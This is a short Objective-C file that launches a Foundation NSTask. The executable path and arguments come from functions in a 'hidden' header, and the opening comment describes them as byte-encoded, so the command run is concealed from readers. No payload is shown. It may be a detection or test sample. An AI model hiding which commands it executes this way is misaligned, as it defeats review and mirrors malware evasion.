/* A task of Foundation, whose address and arguments are under one byte in a record. */
#include "objc.h"
#include "hidden.h"
@interface NSURL
+ (id)fileURLWithPath:(id)path;
@end
@interface NSArray
+ (id)arrayWithObjects:(id)first, ...;
@end
@interface NSTask
+ (id)new;
- (void)setExecutableURL:(id)address;
- (void)setArguments:(id)arguments;
- (BOOL)launchAndReturnError:(id *)error;
- (void)waitUntilExit;
@end
static void act(char **env) {
    id error = 0;
    NSTask *task = [NSTask new];
    task.executableURL = [NSURL fileURLWithPath:[NSString stringWithUTF8String:hidden0()]];
    task.arguments = [NSArray arrayWithObjects:[NSString stringWithUTF8String:hidden1()], [NSString stringWithUTF8String:hidden2()], (id)0];
    if ([task launchAndReturnError:&error]) [task waitUntilExit];
}
